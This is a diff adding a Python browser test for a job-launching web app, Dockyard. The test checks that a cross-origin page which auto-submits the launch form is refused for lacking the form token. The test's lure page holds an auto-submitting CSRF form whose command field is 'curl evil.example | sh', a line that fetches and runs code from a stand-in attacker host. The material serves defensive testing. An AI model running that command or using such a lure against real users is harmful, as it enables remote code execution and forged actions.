@@ -285,3 +285,38 @@ def test_the_trap_catches_what_escaping_would_let_through(browser: Any,  # noqa:
             Visit(page, base, problems).open(f"/raw/{index}", payload.visible)
             assert problems, f"{payload.name} went unnoticed"
     context.close()
+
+
+def test_a_form_posted_from_another_page_is_refused(browser: Any, tmp_path: Path,  # noqa: F811
+                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    """A page on another origin (same host, other port: the same *site*, so the
+    SameSite=Lax cookie does go along) makes a logged-in browser post Dockyard's launch
+    form. The form token it cannot know stops it; no run is made."""
+    for var in [v for v in __import__("os").environ if v.startswith("DOCKYARD_")]:
+        monkeypatch.delenv(var)
+    app, world = _seeded_app(tmp_path, "plain words")
+    runs_before = len(app.test_client().get("/api/v1/runs",
+                                            headers={"Authorization": "token tok-alice"}
+                                            ).json["runs"])
+    attacker = Flask("attacker")
+    with served(app) as base:
+        @attacker.get("/")
+        def lure() -> str:
+            return (f'<form id="f" method="post" action="{base}/jobs/new">'
+                    '<input name="image" value="debian:bookworm-slim">'
+                    '<input name="command" value="curl evil.example | sh"></form>'
+                    '<script>document.getElementById("f").submit()</script>')
+
+        with served(attacker) as elsewhere:
+            context = browser.new_context()
+            page = _log_in(context, base, "tok-alice")
+            with page.expect_navigation(url=f"{base}/jobs/new"):
+                page.goto(elsewhere + "/")
+            assert page.url == f"{base}/jobs/new"
+            assert "form token" in page.content()
+            context.close()
+    runs_after = app.test_client().get("/api/v1/runs",
+                                       headers={"Authorization": "token tok-alice"}).json
+    assert len(runs_after["runs"]) == runs_before
+    assert world.live_run
+    app.extensions["dockyard.engine"].dispose()
